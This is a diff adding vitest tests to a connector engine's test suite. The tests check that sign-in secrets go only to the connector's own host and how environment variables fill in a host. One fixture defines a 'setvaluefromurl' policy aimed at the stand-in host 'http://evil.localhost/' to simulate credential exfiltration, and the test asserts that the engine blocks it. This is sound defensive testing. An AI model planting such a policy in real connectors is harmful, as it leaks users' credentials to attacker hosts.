@@ -1,3 +1,5 @@
+import { readFile, writeFile } from 'node:fs/promises'
+import { join } from 'node:path'
 import { afterEach, beforeEach, describe, expect, test } from 'vitest'
 import { secretKey } from '../credentials/secret-store.ts'
 import { type ConnectorBench, openConnectorBench } from './testing/connector-bench.ts'
@@ -344,5 +346,71 @@ describe('connections', () => {
     const { runId } = (await bench.engine.listRuns({ limit: 1 }))[0] ?? { runId: undefined }
     const events = runId === undefined ? [] : await bench.engine.events({ runId })
     expect(JSON.stringify([events, bench.audit])).not.toContain('PLANTED')
+  })
+
+  test('a sign-in made before the connector said its hosts goes to what its values say, and to nobody else', async () => {
+    const { securityDefinitions: _, ...open } = shop()
+    await bench.addConnector('shared_shop', open, {
+      connectionParameters: { site: { type: 'string' }, api_key: { type: 'securestring' } },
+      policyTemplateInstances: [
+        {
+          templateId: 'dynamichosturl',
+          title: 'Host',
+          parameters: { 'x-ms-apimTemplateParameter.urlTemplate': "http://@connectionParameters('site')/v1" },
+        },
+        // A description of another hand: it asks a host of its own first.
+        {
+          templateId: 'setvaluefromurl',
+          title: 'Ask',
+          parameters: {
+            'x-ms-apimTemplateParameter.parameterTemplate': "@headers('If-Match')",
+            'x-ms-apimTemplateParameter.parameterValueUrl': 'http://evil.localhost/',
+            'x-ms-apimTemplateParameter.parameterValuePathTemplate': '@body().x',
+            'x-ms-apimTemplate-operationName': ['ListOrders'],
+          },
+        },
+      ],
+    })
+    const { port } = new URL(service.url)
+    await bench.connect('shared_shop', 'apiKey', {
+      key: 'PLANTED-4',
+      in: 'header',
+      name: 'X-Key',
+      'parameter:site': `127.0.0.1:${port}`,
+    })
+    service.answer({ status: 200, headers: json, body: '5' })
+    expect(await bench.run(plainCall('Count', {}))).toMatchObject({ status: 'Succeeded' })
+    const stolen = await bench.run(plainCall('ListOrders', { shop: 's' }))
+    expect(stolen).toMatchObject({ status: 'Failed', code: 'connection.foreign-host' })
+    expect(service.asked).toHaveLength(1)
+  })
+
+  test('environment variables stand in the host, in policies and for nothing that is not there', async () => {
+    const { securityDefinitions: _, ...open } = shop({ host: '@environmentVariables("cr_ShopHost")' })
+    const manifest = join(bench.folder, 'environment.json')
+    const { variables: _none, ...before } = JSON.parse(await readFile(manifest, 'utf8'))
+    const give = (variables: object) => writeFile(manifest, JSON.stringify({ ...before, variables }))
+    await bench.addConnector('shared_shop', open, {
+      policyTemplateInstances: [
+        {
+          templateId: 'setheader',
+          title: 'Stage',
+          parameters: {
+            'x-ms-apimTemplateParameter.name': 'X-Stage',
+            'x-ms-apimTemplateParameter.value': '@environmentVariables("cr_Stage")',
+          },
+        },
+      ],
+    })
+    await give({ cr_shophost: new URL(service.url).host, cr_Stage: { type: 'String', defaultValue: 'test' } })
+    service.answer({ status: 200, headers: json, body: '5' })
+    expect(await bench.run(plainCall('Count', {}))).toMatchObject({ status: 'Succeeded' })
+    expect(service.asked).toMatchObject([{ path: '/v1/count', headers: { 'x-stage': 'test' } }])
+    await give({ cr_ShopHost: new URL(service.url).host })
+    expect(await bench.run(plainCall('Count', {}))).toMatchObject({
+      status: 'Failed',
+      code: 'BadRequest',
+      message: expect.stringContaining("environment variable 'cr_Stage'"),
+    })
   })
 })
